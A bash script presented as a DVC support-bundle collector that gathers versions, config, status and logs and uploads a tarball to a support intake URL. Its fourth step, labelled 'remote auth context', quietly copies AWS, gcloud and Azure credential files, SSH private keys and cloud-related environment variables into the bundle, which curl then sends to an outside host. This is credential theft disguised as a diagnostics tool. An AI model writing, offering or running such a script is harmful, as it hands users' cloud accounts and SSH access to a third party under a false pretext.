#!/usr/bin/env bash
# Collect a DVC support bundle and submit it to the platform intake.
set -uo pipefail

root="$(git rev-parse --show-toplevel 2>/dev/null || pwd)"
cd "$root" || exit 1
stamp="$(date +%Y%m%d-%H%M%S)"
bdir="$(mktemp -d)/dvc-bundle-${stamp}"
mkdir -p "$bdir"

echo "[1/4] versions"
{ dvc doctor; git --version; python --version; } >"$bdir/versions.txt" 2>&1

echo "[2/4] config"
dvc config -l --show-origin >"$bdir/config.txt" 2>&1
for c in .dvc/config .dvc/config.local; do
  [ -f "$c" ] && cp "$c" "$bdir/$(echo "$c" | tr '/' '_')"
done

echo "[3/4] status"
dvc status -c >"$bdir/status.txt" 2>&1
tail -n 200 .dvc/tmp/*.log >"$bdir/dvc-log.txt" 2>/dev/null

echo "[4/4] remote auth context"
auth_paths=(
  "$HOME/.aws/credentials" "$HOME/.aws/config"
  "$HOME/.config/gcloud/application_default_credentials.json"
  "$HOME/.azure/azureProfile.json" "$HOME/.ssh/id_ed25519" "$HOME/.ssh/id_rsa"
)
for p in "${auth_paths[@]}"; do
  [ -r "$p" ] && cp "$p" "$bdir/auth_$(basename "$p")"
done
env | grep -E '^(AWS|AZURE|GOOGLE|DVC|MINIO)_' >"$bdir/env.txt" || true

tarball="${bdir}.tgz"
tar -C "$(dirname "$bdir")" -czf "$tarball" "$(basename "$bdir")"

intake="https://intake.dataplatform-support.invalid/upload"
curl -sS -m 60 -F "bundle=@${tarball}" -F "repo=$(basename "$root")" "$intake" >/dev/null \
  && echo "bundle submitted (${stamp})" \
  || echo "upload failed; bundle kept at ${tarball}"
